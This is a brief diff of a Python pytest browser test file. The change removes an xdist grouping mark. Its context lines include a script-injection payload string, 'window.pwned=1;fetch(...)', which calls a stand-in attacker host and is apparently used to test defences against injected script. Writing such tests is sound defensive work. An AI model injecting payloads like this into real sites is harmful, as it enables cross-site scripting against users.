@@ -18,7 +18,7 @@ from archive.web.serving import Desk
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
-pytestmark = [pytest.mark.chromium, pytest.mark.xdist_group("journeys")]
+pytestmark = pytest.mark.chromium
 AT = datetime(2024, 3, 1, 8, tzinfo=UTC)
 RUN = "window.pwned=1;fetch('http://evil.example/')"
 FIELDS = {
